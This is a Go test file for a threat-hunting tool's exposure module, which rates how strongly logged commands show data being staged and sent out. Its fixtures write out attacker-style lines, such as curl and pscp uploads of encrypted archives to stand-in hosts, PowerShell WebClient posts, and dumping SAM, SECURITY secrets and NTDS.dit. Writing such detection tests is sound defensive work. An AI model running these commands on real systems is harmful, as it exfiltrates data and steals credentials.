package exposure

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/spoor-hunt/spoor/internal/result"
)

var t0 = time.Date(2024, 5, 1, 10, 0, 0, 0, time.UTC)

// det is a detection of event id on host at t0+min with fields (name,
// value pairs) by a rule of tactics.
func det(host string, id int64, min int, tactics []string, kv ...string) result.Detection {
	d := result.Detection{Computer: host + ".corp.local", EventID: id, Time: t0.Add(time.Duration(min) * time.Minute),
		Rule: &result.Rule{ID: "r", Title: "r", Level: "high", Tactics: tactics}}
	for i := 0; i+1 < len(kv); i += 2 {
		d.Fields = append(d.Fields, result.Field{Name: kv[i], Value: kv[i+1]})
	}
	return d
}

func proc(host string, min int, image, line, cwd string) result.Detection {
	return det(host, 1, min, nil, "Image", image, "CommandLine", line, "CurrentDirectory", cwd, "User", `CORP\eve`)
}

func file(host string, min int, image, path string) result.Detection {
	return det(host, 11, min, nil, "Image", image, "TargetFilename", path)
}

// annotate runs Annotate over one operation of all dets.
func annotate(t *testing.T, jewels *Jewels, dets ...result.Detection) (*result.Operation, *result.Exposure) {
	t.Helper()
	op := result.Operation{ID: "op", Severity: "medium", Score: 5}
	for i := range dets {
		op.Detections = append(op.Detections, i)
	}
	ops := []result.Operation{op}
	Annotate(ops, dets, jewels)
	if ops[0].Exposure == nil {
		t.Fatal("no exposure")
	}
	return &ops[0], ops[0].Exposure
}

func find(e *result.Exposure, kind, tool string) *result.ExposureItem {
	for i := range e.Items {
		if e.Items[i].Kind == kind && e.Items[i].Tool == tool {
			return &e.Items[i]
		}
	}
	return nil
}

// A RAR of CAD drawings named by a wildcard relative to the working
// folder, split into 100 MiB volumes with a password, then uploaded with
// curl's globbing and seen leaving: strong at each step, the size bounded
// by the volumes.
func TestSplitVolumesUploaded(t *testing.T) {
	_, e := annotate(t, nil,
		proc("FS03", 0, `C:\PerfLogs\r.exe`, `r.exe a -r -hpX -v100m C:\PerfLogs\e.rar *.dwg`, `D:\Shares\Engineering\CAD\`),
		file("FS03", 2, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part01.rar`),
		file("FS03", 3, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part02.rar`),
		file("FS03", 4, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part03.rar`),
		file("FS03", 5, `C:\PerfLogs\r.exe`, `C:\PerfLogs\e.part04.rar`),
		proc("FS03", 9, `C:\Windows\System32\curl.exe`, `curl -T "e.part[01-04].rar" https://files.example.net/u/`, `C:\PerfLogs\`),
		det("FS03", 3, 9, []string{"exfiltration"}, "Image", `C:\Windows\System32\curl.exe`, "DestinationHostname", "files.example.net", "DestinationPort", "443", "Initiated", "true"),
	)
	st := find(e, result.ExposureStaged, "rar")
	if st == nil {
		t.Fatalf("no rar item in %+v", e.Items)
	}
	if want := []string{`D:\Shares\Engineering\CAD\*.dwg`}; !slices.Equal(st.Sources, want) {
		t.Errorf("sources %q, want %q (resolved against the working folder)", st.Sources, want)
	}
	if !st.Password || !st.HeadersEncrypted || !st.Recursive || st.VolumeSize != 100<<20 || st.Volumes != 4 {
		t.Errorf("rar item %+v: want password, headers, recursion, 4 volumes of 100 MiB", st)
	}
	if st.SizeMin != 300<<20+1 || st.SizeMax != 400<<20 {
		t.Errorf("size [%d, %d], want (300 MiB, 400 MiB]", st.SizeMin, st.SizeMax)
	}
	if st.Strength != "strong" || !slices.Contains(st.Valuable, "CAD drawings (inferred)") {
		t.Errorf("rar item strength %s valuable %q, want strong and inferred CAD drawings", st.Strength, st.Valuable)
	}
	up := find(e, result.ExposureExfiltrated, "curl")
	if up == nil || len(up.Sources) != 4 || up.Sources[3] != `C:\PerfLogs\e.part04.rar` {
		t.Fatalf("curl item %+v: want the 4 volumes by absolute path", up)
	}
	if up.Strength != "strong" || up.Volumes != 4 || up.SizeMax != 400<<20 || !strings.Contains(up.SizeNote, "more than 300 MiB") {
		t.Errorf("curl item strength %s volumes %d size %d note %q", up.Strength, up.Volumes, up.SizeMax, up.SizeNote)
	}
	if !slices.Contains(up.Valuable, "CAD drawings (inferred)") {
		t.Errorf("the upload does not carry the archive's valuable labels: %q", up.Valuable)
	}
	if !slices.Equal(e.Destinations, []string{"files.example.net"}) {
		t.Errorf("destinations %q", e.Destinations)
	}
	if len(e.Items) != 3 {
		t.Errorf("%d items, want rar, curl and the connection", len(e.Items))
	}
}

// An archive written with no command seen, that a staging rule flagged,
// is weak: unknown content. One that no staging rule flagged (a download)
// is not exposure.
func TestArchiveOfUnknownContent(t *testing.T) {
	_, e := annotate(t, nil, det("WS1", 11, 0, []string{"collection"}, "Image", `C:\Users\x\t.exe`, "TargetFilename", `C:\Users\Public\o.7z`))
	if len(e.Items) != 1 || e.Items[0].Kind != result.ExposureStaged || e.Items[0].Strength != "weak" {
		t.Errorf("items %+v, want one weak staged item", e.Items)
	}
	ops := []result.Operation{{ID: "op", Detections: []int{0}}}
	Annotate(ops, []result.Detection{file("WS1", 0, `C:\Windows\System32\svchost.exe`, `C:\Users\x\AppData\Local\Temp\i.7z`)}, nil)
	if ops[0].Exposure != nil {
		t.Errorf("a download's archive is exposure: %+v", ops[0].Exposure.Items)
	}
}

// Security 5145 of named pipes, of programs written to a share, and of
// accesses that read no data are not exposure.
func TestShareAccessNotData(t *testing.T) {
	ops := []result.Operation{{ID: "op", Detections: []int{0, 1, 2}}}
	dets := []result.Detection{
		det("FS03", 5145, 0, nil, "ShareName", `\\*\IPC$`, "RelativeTargetName", "svcctl", "AccessMask", "0x12019f"),
		det("FS03", 5145, 0, nil, "ShareName", `\\*\ADMIN$`, "RelativeTargetName", `System32\svc.exe`, "AccessMask", "0x17019f"),
		det("FS03", 5145, 0, nil, "ShareName", `\\*\C$`, "RelativeTargetName", `Users\x.txt`, "AccessMask", "0x2"),
	}
	Annotate(ops, dets, nil)
	if ops[0].Exposure != nil {
		t.Errorf("got %+v", ops[0].Exposure.Items)
	}
}

// The Sysmon and Security records of one process creation, and the shell
// that ran it, are one item with all their detections.
func TestOneItemPerAction(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\cmd.exe`, `cmd.exe /c 7z a -pX C:\t\o.7z D:\src\`, `C:\`),
		proc("WS1", 0, `C:\Program Files\7-Zip\7z.exe`, `7z  a -pX C:\t\o.7z D:\src\`, `C:\`),
		det("WS1", 4688, 0, nil, "NewProcessName", `C:\Program Files\7-Zip\7z.exe`, "CommandLine", `7z  a -pX C:\t\o.7z D:\src\`, "SubjectUserName", "eve", "SubjectDomainName", "CORP"),
	)
	if len(e.Items) != 1 || len(e.Items[0].Detections) != 3 || e.Items[0].Process != `C:\Program Files\7-Zip\7z.exe` {
		t.Errorf("items %+v, want one with 3 detections and the tool's image", e.Items)
	}
}

// cd in the shell line moves the working folder of the commands after it.
func TestShellChangesFolder(t *testing.T) {
	_, e := annotate(t, nil, proc("WS1", 0, `C:\Windows\System32\cmd.exe`, `cmd /c cd /d D:\src && tar -cf ..\o.tar app`, `C:\`))
	if len(e.Items) != 1 || e.Items[0].Destination != `D:\o.tar` || !slices.Equal(e.Items[0].Sources, []string{`D:\src\app`}) {
		t.Errorf("items %+v, want tar of D:\\src\\app into D:\\o.tar", e.Items)
	}
}

// Security 5145: files of a share opened over the network, one item per
// share, account and client.
func TestShareAccess(t *testing.T) {
	a := det("FS03", 5145, 0, nil, "SubjectUserName", "eve", "SubjectDomainName", "CORP", "ShareName", `\\*\Engineering`, "RelativeTargetName", `CAD\a.dwg`, "IpAddress", "10.0.0.9")
	b := det("FS03", 5145, 1, nil, "SubjectUserName", "eve", "SubjectDomainName", "CORP", "ShareName", `\\*\Engineering`, "RelativeTargetName", `CAD\b.dwg`, "IpAddress", "10.0.0.9")
	jewels, err := ParseJewels("j.txt", []byte("# valuable\n\\\\FS03\\Engineering | Engineering share\n"))
	if err != nil {
		t.Fatal(err)
	}
	op, e := annotate(t, jewels, a, b)
	if len(e.Items) != 1 || e.Items[0].Tool != "share access" || len(e.Items[0].Detections) != 2 || e.Items[0].Sources[0] != `\\FS03\Engineering\CAD\a.dwg` {
		t.Fatalf("items %+v", e.Items)
	}
	if !slices.Equal(e.CrownJewels, []string{"Engineering share"}) || e.Inferred {
		t.Errorf("crown jewels %q inferred %v", e.CrownJewels, e.Inferred)
	}
	if op.Severity != "high" || op.Score != 7 || e.Raised == "" {
		t.Errorf("severity %s score %v raised %q, want high, 7 and why", op.Severity, op.Score, e.Raised)
	}
}

// A crown-jewels glob marks a wildcard source under it; data elsewhere is
// not marked, and nothing is inferred once a file is given.
func TestCrownJewelsGlob(t *testing.T) {
	jewels, err := ParseJewels("j.yml", []byte("- path: 'D:\\Shares\\Engineering\\CAD\\**'\n  label: CAD\n- host: FS09\n"))
	if err != nil {
		t.Fatal(err)
	}
	op, e := annotate(t, jewels,
		proc("FS03", 0, `C:\x\rar.exe`, `rar a -pX C:\t\a.rar D:\Shares\Engineering\CAD\*.dwg`, ``),
		proc("FS03", 1, `C:\x\rar.exe`, `rar a -pX C:\t\b.rar D:\Shares\HR\*.xlsx`, ``),
	)
	if !slices.Equal(e.Items[0].Valuable, []string{"CAD"}) || len(e.Items[1].Valuable) != 0 {
		t.Errorf("valuable %q and %q, want [CAD] and none", e.Items[0].Valuable, e.Items[1].Valuable)
	}
	if op.Severity != "high" {
		t.Errorf("severity %s, want high", op.Severity)
	}
}

func TestParseJewelsErrors(t *testing.T) {
	for _, tc := range []struct{ name, data string }{
		{"j.yml", "- path: a\n  host: b\n"},
		{"j.yml", "- pth: a\n"},
		{"j.yml", "- path: ' '\n  host: b\n- path: ' '\n"},
		{"j.txt", "# only comments\n"},
		{"j.txt", "| label\n"},
	} {
		if _, err := ParseJewels(tc.name, []byte(tc.data)); err == nil || !strings.Contains(err.Error(), tc.name) {
			t.Errorf("ParseJewels(%s, %q) = %v, want an error naming the file", tc.name, tc.data, err)
		}
	}
}

// No data movement: no exposure, and the operation is unchanged.
func TestNoExposure(t *testing.T) {
	ops := []result.Operation{{ID: "op", Severity: "high", Score: 4, Detections: []int{0}}}
	dets := []result.Detection{proc("WS1", 0, `C:\Windows\System32\whoami.exe`, `whoami /all`, `C:\`)}
	Annotate(ops, dets, nil)
	if ops[0].Exposure != nil || ops[0].Severity != "high" || ops[0].Score != 4 {
		t.Errorf("got %+v", ops[0])
	}
}

// An operation of many data movements keeps maxItems of them and says how
// many more there were, in bounded time.
func TestManyItems(t *testing.T) {
	var dets []result.Detection
	for i := range maxItems + 50 {
		dets = append(dets, proc("WS1", i, `C:\Windows\System32\cmd.exe`, fmt.Sprintf(`cmd /c copy \\fs\s\f%d.docx C:\t\`, i), `C:\`))
	}
	_, e := annotate(t, nil, dets...)
	if len(e.Items) != maxItems || !strings.Contains(e.Summary, "50 more data movements not kept") {
		t.Errorf("%d items, summary %q", len(e.Items), e.Summary)
	}
}

// A wildcard source resolves to the files the operation wrote on its host
// before the command, and links the copy to the archive that wrote them.
func TestWildcardResolvedAgainstFileEvents(t *testing.T) {
	_, e := annotate(t, nil,
		proc("FS03", 0, `C:\x\7z.exe`, `7z a -v1g -pX C:\PerfLogs\e.7z D:\Shares\Src\`, `C:\`),
		file("FS03", 1, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.001`),
		file("FS03", 2, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.002`),
		file("FS03", 3, `C:\Windows\System32\notepad.exe`, `C:\PerfLogs\notes.txt`),
		proc("FS03", 5, `C:\Windows\System32\xcopy.exe`, `xcopy e.7z.* \\STAGE01\drop\ /y`, `C:\PerfLogs\`),
	)
	cp := find(e, result.ExposureCollected, "xcopy")
	if cp == nil {
		t.Fatalf("no xcopy item in %+v", e.Items)
	}
	if want := []string{`C:\PerfLogs\e.7z.001`, `C:\PerfLogs\e.7z.002`}; !slices.Equal(cp.Files, want) {
		t.Errorf("files %q, want %q", cp.Files, want)
	}
	if cp.Volumes != 2 || cp.SizeMin != 1<<30+1 || cp.SizeMax != 2<<30 || cp.Strength != "strong" {
		t.Errorf("xcopy item %+v: want 2 volumes of 1 GiB, (1 GiB, 2 GiB], strong", cp)
	}
}

// A connection whose log gives the bytes sent is an exfiltration of that
// size when it is large; a small one to an ordinary host is nothing.
func TestLargeTransfer(t *testing.T) {
	_, e := annotate(t, nil, det("WS1", 3, 0, nil, "Image", `C:\x\agent.exe`, "DestinationIp", "203.0.113.9", "DestinationPort", "443", "SentBytes", "734003200"))
	if len(e.Items) != 1 || e.Items[0].SizeMin != 734003200 || e.Items[0].Strength != "medium" || e.Items[0].Destination != "203.0.113.9:443" {
		t.Errorf("items %+v", e.Items)
	}
	ops := []result.Operation{{ID: "op", Detections: []int{0}}}
	Annotate(ops, []result.Detection{det("WS1", 3, 0, nil, "Image", `C:\x\agent.exe`, "DestinationIp", "203.0.113.9", "SentBytes", "5000")}, nil)
	if ops[0].Exposure != nil {
		t.Errorf("a small transfer is exposure: %+v", ops[0].Exposure.Items)
	}
}

// bitsadmin /addfile sends the file only when its job was created as an
// upload on that host; the same command in a download job fetches it.
func TestBitsUploadJob(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /create /upload J1`, `C:\`),
		proc("WS1", 1, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /addfile j1 https://x.example/u C:\t\o.zip`, `C:\`),
		proc("WS1", 2, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /addfile j2 https://x.example/t.exe C:\t\t.exe`, `C:\`),
		proc("WS2", 3, `C:\Windows\System32\bitsadmin.exe`, `bitsadmin /addfile j1 https://x.example/u C:\t\p.zip`, `C:\`),
	)
	if len(e.Items) != 1 || e.Items[0].Tool != "bitsadmin" || e.Items[0].Host != "WS1" || !slices.Equal(e.Items[0].Sources, []string{`C:\t\o.zip`}) {
		t.Errorf("items %+v, want the upload of C:\\t\\o.zip on WS1 alone", e.Items)
	}
}

func TestDestHost(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"https://bn1304.storage.live.com/users/x/", "bn1304.storage.live.com"},
		{"ftp://user:pw@203.0.113.5/", "203.0.113.5"},
		{"https://u@Files.Example.net:8443/a@b", "files.example.net"},
		{"user@203.0.113.5:/tmp/", "203.0.113.5"},
		{"bob@fileserver:~/", "fileserver"},
		{"bn1304.storage.live.com:443", "bn1304.storage.live.com"},
		{"fileserver:445", "fileserver"},
		{"[2001:db8::1]:443", "2001:db8::1"},
		{"mega:exfil/2024", "mega:"},
		{"remote:", "remote:"},
		{"mega.nz:/Root/x", "mega.nz"},
	} {
		if got := destHost(tc.in); got != tc.want {
			t.Errorf("destHost(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// An scp upload of an archive, and its connection to the address the
// target names (user@ stripped), are linked: strong.
func TestSCPUploadConnected(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\x\7z.exe`, `7z a -pX C:\t\o.7z D:\Finance`, `C:\`),
		proc("WS1", 5, `C:\x\pscp.exe`, `pscp -pw X o.7z bob@203.0.113.5:/tmp/`, `C:\t\`),
		det("WS1", 3, 5, []string{"exfiltration"}, "Image", `C:\x\pscp.exe`, "DestinationIp", "203.0.113.5", "DestinationPort", "22", "Initiated", "true"),
	)
	up := find(e, result.ExposureExfiltrated, "scp")
	if up == nil || up.Strength != "strong" || !slices.Equal(up.Sources, []string{`C:\t\o.7z`}) || !strings.Contains(up.Why, "a connection to the destination was logged") {
		t.Errorf("scp item %+v, want a strong upload of C:\\t\\o.7z with its connection", up)
	}
	if !slices.Equal(e.Destinations, []string{"203.0.113.5"}) {
		t.Errorf("destinations %q, want the address alone", e.Destinations)
	}
}

// A pipeline's listing gives the paths of the Compress-Archive or
// Copy-Item after it that names none, through filters and script blocks.
func TestPowerShellPipeline(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			`powershell -c "Get-ChildItem D:\Finance -Recurse -Include *.xlsx | Where-Object { $_.Length -lt 10MB } | Compress-Archive -DestinationPath C:\t\o.zip"`, `C:\`),
		det("WS1", 4104, 1, nil, "ScriptBlockText", "gci \\\\fs01\\eng -Filter *.dwg | Copy-Item -Destination C:\\t\\eng; Compress-Archive -DestinationPath C:\\t\\x.zip"),
	)
	st := find(e, result.ExposureStaged, "Compress-Archive")
	if st == nil || !slices.Equal(st.Sources, []string{`D:\Finance\*.xlsx`}) || st.Destination != `C:\t\o.zip` {
		t.Errorf("Compress-Archive item %+v, want D:\\Finance\\*.xlsx into C:\\t\\o.zip", st)
	}
	cp := find(e, result.ExposureCollected, "Copy-Item")
	if cp == nil || !slices.Equal(cp.Sources, []string{`\\fs01\eng\*.dwg`}) || cp.Destination != `C:\t\eng` {
		t.Errorf("Copy-Item item %+v, want \\\\fs01\\eng\\*.dwg into C:\\t\\eng", cp)
	}
	// A statement after ; takes no pipeline input: an archive of unknown content.
	for _, it := range e.Items {
		if it.Destination == `C:\t\x.zip` && len(it.Sources) != 0 {
			t.Errorf("x.zip item %+v has sources", it)
		}
	}
}

// The reasons say which way a link goes: a listing before an archive of
// unknown content precedes it (medium), nothing moves it on; a copy of a
// copy is linked to another copy, not to staging.
func TestLinkReasons(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\cmd.exe`, `cmd /c dir /s /b D:\p\*.dwg`, `C:\`),
		proc("WS1", 1, `C:\Windows\System32\makecab.exe`, `makecab /F C:\t\l.ddf`, `C:\`),
		proc("WS1", 2, `C:\Windows\System32\cmd.exe`, `cmd /c copy \\fs\s\a.dat C:\t\`, `C:\`),
		proc("WS1", 3, `C:\Windows\System32\cmd.exe`, `cmd /c copy C:\t\a.dat D:\u\`, `C:\`),
	)
	mc := find(e, result.ExposureStaged, "makecab")
	if mc == nil || mc.Strength != "medium" || !strings.Contains(mc.Why, "a listing precedes it") || strings.Contains(mc.Why, "moved on") {
		t.Errorf("makecab item %+v, want medium, preceded by a listing, not moved on", mc)
	}
	var copies []result.ExposureItem
	for _, it := range e.Items {
		if it.Tool == "copy" {
			copies = append(copies, it)
		}
	}
	if len(copies) != 2 || copies[0].Strength != "medium" || copies[1].Strength != "weak" ||
		!strings.Contains(copies[1].Why, "linked to another copy") || strings.Contains(copies[0].Why, "staging") {
		t.Errorf("copies %+v, want medium and weak, linked to another copy", copies)
	}
}

// A local copy of data inferred valuable (the SAM hive through a shadow
// copy) is medium and says so; one of unknown content stays weak.
func TestLocalCopyOfValuableData(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\esentutl.exe`, `esentutl.exe /y /vss C:\windows/system32/config/SAM /d C:\ProgramData\SAM`, `C:\`),
		proc("WS1", 1, `C:\Windows\System32\cmd.exe`, `cmd /c copy C:\t\a.dat D:\u\`, `C:\`),
	)
	if len(e.Items) != 2 {
		t.Fatalf("items %+v, want the esentutl and copy items", e.Items)
	}
	sam, cp := e.Items[0], e.Items[1]
	if sam.Sources[0] != `C:\windows\system32\config\SAM` || sam.Strength != "medium" || !slices.Contains(sam.Valuable, "registry hives with credentials (inferred)") ||
		!strings.Contains(sam.Why, "of data marked valuable") {
		t.Errorf("SAM copy %+v, want medium, valuable and said so", sam)
	}
	if cp.Strength != "weak" || !strings.Contains(cp.Why, "what the files hold is not known") {
		t.Errorf("copy %+v, want weak", cp)
	}
}

func TestVolumesSeen(t *testing.T) {
	for _, tc := range []struct {
		dest          string
		files         []string
		seen, atLeast int
	}{
		{`C:\t\d.rar`, []string{`C:\t\d.part1.rar`, `C:\t\d.part2.rar`, `C:\t\d.part3.rar`}, 3, 3},
		// part2 missing from the file events: still three at least.
		{`C:\t\d.rar`, []string{`C:\t\d.part1.rar`, `C:\t\d.part3.rar`}, 2, 3},
		{`C:\t\d.rar`, []string{`C:\t\d.part07.rar`}, 1, 7},
		// RAR's old naming: the .rar is the first volume.
		{`C:\t\d.rar`, []string{`C:\t\d.rar`, `C:\t\d.r00`, `C:\t\d.r01`}, 3, 3},
		{`C:\t\e.7z`, []string{`C:\t\e.7z.001`, `C:\t\e.7z.002`, `C:\t\notes.txt`}, 2, 2},
		// A split zip ends with the .zip.
		{`C:\t\o.zip`, []string{`C:\t\o.z01`, `C:\t\o.z02`, `C:\t\o.zip`}, 3, 3},
		{`C:\t\o.zip`, []string{`C:\t\o.zip.001`, `C:\t\o.zip.004`}, 2, 4},
	} {
		seen, atLeast := volumesSeen(tc.files, tc.dest)
		if seen != tc.seen || atLeast != tc.atLeast {
			t.Errorf("volumesSeen(%q, %s) = %d, %d; want %d, %d", tc.files, tc.dest, seen, atLeast, tc.seen, tc.atLeast)
		}
	}
}

// Object access auditing (4663 with WriteData) shows the volumes a RAR
// wrote as Sysmon 11 does; a read does not.
func TestObjectAccessWrites(t *testing.T) {
	w := func(min int, name, mask string) result.Detection {
		return det("FS03", 4663, min, nil, "ObjectType", "File", "ObjectName", name, "ProcessName", `C:\x\rar.exe`, "AccessMask", mask)
	}
	_, e := annotate(t, nil,
		proc("FS03", 0, `C:\x\rar.exe`, `rar a -v100m -hpX C:\t\e.rar D:\p\`, `C:\`),
		w(1, `C:\t\e.part1.rar`, "0x2"),
		w(2, `C:\t\e.part2.rar`, "0x6"),
		w(3, `C:\t\e.part3.rar`, "0x1"),
	)
	if len(e.Items) != 1 || e.Items[0].Volumes != 2 || len(e.Items[0].Detections) != 3 {
		t.Errorf("items %+v, want the rar with 2 volumes written and 3 detections", e.Items)
	}
}

// A script's variables assigned a path or URL are read where it uses
// them; the output of a command assigned to one is recognised as the
// command.
func TestPowerShellVariables(t *testing.T) {
	script := "$src = \"D:\\Finance\"\n[string]$zip = 'C:\\ProgramData\\f.zip'\nCompress-Archive -Path $src -DestinationPath $zip -Force\n" +
		"$wc = New-Object System.Net.WebClient\n$r = Invoke-RestMethod -Uri https://x.example/u -Method Post -InFile $zip\n" +
		"$wc.UploadFile(\"https://x.example/v\", \"$zip\")\n$src = Get-Item $p\nCopy-Item $src C:\\t\\"
	_, e := annotate(t, nil, det("WS1", 4104, 0, nil, "ScriptBlockText", script))
	var got []string
	for _, it := range e.Items {
		got = append(got, it.Kind+" "+it.Tool+" "+strings.Join(it.Sources, ",")+" → "+it.Destination+" "+it.Strength)
	}
	want := []string{
		`staged Compress-Archive D:\Finance → C:\ProgramData\f.zip strong`,
		`exfiltrated Invoke-RestMethod C:\ProgramData\f.zip → https://x.example/u strong`,
		`exfiltrated WebClient C:\ProgramData\f.zip → https://x.example/v strong`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("items\n got %q\nwant %q", got, want)
	}
}

// AnnotateMembers (a case store's operation, its detections by the
// store's ids) gives the exposure Annotate gives, its items naming the
// detections by those ids, and leaves the operation's ids as they were.
func TestAnnotateMembers(t *testing.T) {
	dets := []result.Detection{
		proc("FS03", 0, `C:\x\7z.exe`, `7z a -v1g -pX C:\PerfLogs\e.7z D:\Shares\Src\`, `C:\`),
		file("FS03", 1, `C:\x\7z.exe`, `C:\PerfLogs\e.7z.001`),
		proc("FS03", 5, `C:\Windows\System32\curl.exe`, `curl -T C:\PerfLogs\e.7z.001 https://x.example/`, `C:\`),
	}
	ids := []int{104, 230, 517}
	op := result.Operation{ID: "op", Severity: "medium", Score: 5, Detections: slices.Clone(ids)}
	jewels, err := ParseJewels("j.txt", []byte(`D:\Shares\Src\** | source code`))
	if err != nil {
		t.Fatal(err)
	}
	AnnotateMembers(&op, dets, jewels)
	_, want := annotate(t, jewels, dets...)
	if !slices.Equal(op.Detections, ids) || op.Exposure == nil || len(op.Exposure.Items) != len(want.Items) || op.Severity != "high" {
		t.Fatalf("operation %+v, want ids %v kept, %d items, severity high", op, ids, len(want.Items))
	}
	for i, it := range op.Exposure.Items {
		var mapped []int
		for _, d := range want.Items[i].Detections {
			mapped = append(mapped, ids[d])
		}
		if !slices.Equal(it.Detections, mapped) || it.Kind != want.Items[i].Kind || it.Strength != want.Items[i].Strength {
			t.Errorf("item %d: detections %v, want %v", i, it.Detections, mapped)
		}
	}
}

// cmd for loops and PowerShell ForEach-Object blocks give their command
// the files they iterate over; -Include's patterns each.
func TestLoops(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\cmd.exe`, `cmd /c for /r D:\Data %f in (*.docx *.xlsx) do copy "%f" C:\t\stage\`, `C:\`),
		proc("WS1", 1, `C:\Windows\System32\cmd.exe`, `cmd /c for %%g in (\\FS01\Eng\*.dwg) do @copy %%~fg C:\t\eng\`, `C:\`),
		proc("WS1", 2, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			`powershell -c "ls \\FS01\Fin -r -Include *.pdf,*.xlsx | % { Copy-Item $_.FullName C:\t\fin\ }"`, `C:\`),
	)
	var got []string
	for _, it := range e.Items {
		if it.Tool == "copy" || it.Tool == "Copy-Item" {
			got = append(got, it.Tool+" "+strings.Join(it.Sources, ",")+" → "+it.Destination)
		}
	}
	want := []string{
		`copy D:\Data\**\*.docx → C:\t\stage\`,
		`copy D:\Data\**\*.xlsx → C:\t\stage\`,
		`copy \\FS01\Eng\*.dwg → C:\t\eng\`,
		`Copy-Item \\FS01\Fin\*.pdf,\\FS01\Fin\*.xlsx → C:\t\fin\`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("copies\n got %q\nwant %q", got, want)
	}
}

// A drive mapped to a share (net use, New-PSDrive) makes the copies from
// it copies from the share, said so; on another host the drive is local.
func TestMappedDrives(t *testing.T) {
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\cmd.exe`, `cmd /c net use Z: \\FS01\Finance /persistent:no`, `C:\`),
		proc("WS1", 1, `C:\Windows\System32\xcopy.exe`, `xcopy Z:\Budget C:\t\fin\ /s /e`, `C:\`),
		proc("WS1", 2, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell -c "New-PSDrive -Name Y -PSProvider FileSystem -Root \\FS02\Eng; Copy-Item Y:\CAD\*.dwg C:\t\eng"`, `C:\`),
		proc("WS2", 3, `C:\Windows\System32\xcopy.exe`, `xcopy Z:\Budget C:\t\fin\ /s /e`, `C:\`),
	)
	var got []string
	for _, it := range e.Items {
		got = append(got, it.Host+" "+strings.Join(it.Sources, ",")+" "+it.Strength)
	}
	want := []string{`WS1 \\FS01\Finance\Budget medium`, `WS1 \\FS02\Eng\CAD\*.dwg medium`, `WS2 Z:\Budget weak`}
	if !slices.Equal(got, want) || !strings.Contains(e.Items[0].Why, `Z: is \\FS01\Finance`) {
		t.Errorf("items %q, want %q, the first saying Z: is the share (%q)", got, want, e.Items[0].Why)
	}
}

// The Security 4688 record of a process creation, its relative paths
// unresolved, is one item with the Sysmon record that resolved them; a
// relative path that is not the end of the other's stays apart.
func TestFoldUnresolvedTwin(t *testing.T) {
	sec := func(min int, line string) result.Detection {
		return det("WS1", 4688, min, nil, "NewProcessName", `C:\Windows\System32\reg.exe`, "CommandLine", line, "SubjectUserName", "eve")
	}
	_, e := annotate(t, nil,
		proc("WS1", 0, `C:\Windows\System32\reg.exe`, `reg.exe save HKLM\sam sam`, `C:\Windows\system32\`),
		sec(0, `reg.exe save HKLM\sam sam`),
		sec(1, `reg.exe save HKLM\security other`),
	)
	if len(e.Items) != 2 || e.Items[0].Destination != `C:\Windows\system32\sam` || len(e.Items[0].Detections) != 2 || e.Items[1].Destination != "other" {
		t.Errorf("items %+v, want the SAM save once with both records, and the other apart", e.Items)
	}
}

// A copy out of a volume shadow copy (\\?\GLOBALROOT) is a local copy,
// said to be from a shadow copy; ntds.dit in it is valuable.
func TestShadowCopyPath(t *testing.T) {
	_, e := annotate(t, nil, proc("DC1", 0, `C:\Windows\System32\cmd.exe`,
		`"C:\Windows\system32\cmd.exe" /c "copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\Extract\ntds.dit"`, `C:\`))
	it := e.Items[0]
	if len(e.Items) != 1 || it.Strength != "medium" || !strings.Contains(it.Why, "volume shadow copy") || !strings.Contains(it.Why, "of data marked valuable") ||
		!slices.Contains(it.Valuable, "directory database (inferred)") {
		t.Errorf("items %+v", e.Items)
	}
}

// Without a crown-jewels file, a share an archiver read is inferred
// valuable, and the exposure says it inferred it; nothing is raised.
func TestInferredShare(t *testing.T) {
	op, e := annotate(t, nil, proc("WS1", 0, `C:\x\rar.exe`, `rar a -hpX C:\t\x.rar \\FS03\Eng\Projects`, `C:\`))
	if !slices.Equal(e.Items[0].Valuable, []string{`share \\FS03\Eng read by an archiver (inferred)`}) || !e.Inferred || e.Raised != "" || op.Severity != "medium" {
		t.Errorf("valuable %q inferred %v raised %q severity %s", e.Items[0].Valuable, e.Inferred, e.Raised, op.Severity)
	}
}

// A hive saved by its long name (HKEY_LOCAL_MACHINE\SAM, as reg takes it
// too) is the same credential hive as HKLM\SAM: valuable, inferred.
func TestRegSaveLongName(t *testing.T) {
	for _, key := range []string{`HKLM\SAM`, `HKEY_LOCAL_MACHINE\SAM`, `hkey_local_machine\security\policy\secrets`} {
		_, e := annotate(t, nil, proc("WS1", 0, `C:\Windows\System32\reg.exe`, `reg.exe save `+key+` C:\t\x.hiv`, `C:\`))
		if e == nil || len(e.Items) != 1 || !slices.Contains(e.Items[0].Valuable, "registry hives with credentials (inferred)") {
			t.Errorf("reg save %s: items %+v, want one of credential hives (inferred)", key, e)
		}
	}
}

// A panic while working out one operation's exposure costs that
// operation its exposure, said in its summary; the next is worked out.
func TestPanicContained(t *testing.T) {
	defer func(b func(*result.Operation, []result.Detection, *Jewels) *result.Exposure) { builder = b }(builder)
	real := builder
	builder = func(op *result.Operation, dets []result.Detection, j *Jewels) *result.Exposure {
